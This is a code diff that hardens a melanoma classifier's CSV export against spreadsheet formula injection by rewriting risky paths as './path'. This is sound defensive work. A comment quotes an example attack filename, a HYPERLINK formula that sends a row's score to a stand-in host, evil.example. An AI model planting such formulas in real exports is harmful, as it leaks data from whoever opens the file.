@@ -3,6 +3,7 @@ predict` and the app do; the split-level figures are melanoma.evaluate's."""
 
 from __future__ import annotations
 
+import dataclasses
 import logging
 import os
 from dataclasses import astuple, dataclass, fields
@@ -37,6 +38,17 @@ class Prediction:
 
 
 PREDICTION_COLUMNS = ("path", "probability", "decision")
+# What spreadsheets take as the start of a formula (OWASP's list for CSV injection): a photo
+# named '=HYPERLINK("http:\\evil.example\?"&B2,"see details").jpg' became a link that sent
+# its row's score to that site when the CSV was opened in one.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_text_cell(path: str) -> str:
+    """A relative path that a spreadsheet would take for a formula, written as ./path: the
+    same file to every program that opens it, and text to the spreadsheet. (Quoting it
+    with a ' instead, as OWASP suggests, would name a file that is not there.)"""
+    return f"{os.curdir}{os.sep}{path}" if path.startswith(FORMULA_STARTS) else path
 
 
 @dataclass(frozen=True)
@@ -62,8 +74,9 @@ def write_predictions_csv(path: Path, predictions: list[Prediction], by: Decided
     if path.exists() and any(os.path.samefile(path, p.path) for p in predictions):
         raise UserError(f"{path}: --csv names one of the photos it scores; choose another file")
     columns = PREDICTION_COLUMNS + tuple(f.name for f in fields(DecidedBy))
-    decided = astuple(by)
-    write_csv(path, columns, ((p.path, p.probability, p.decision, *decided) for p in predictions))
+    decided = astuple(dataclasses.replace(by, checkpoint=as_text_cell(by.checkpoint)))
+    rows = ((as_text_cell(p.path), p.probability, p.decision, *decided) for p in predictions)
+    write_csv(path, columns, rows)
 
 
 def digits_to_tell(probabilities: list[float], threshold: float, least: int = 4) -> int:
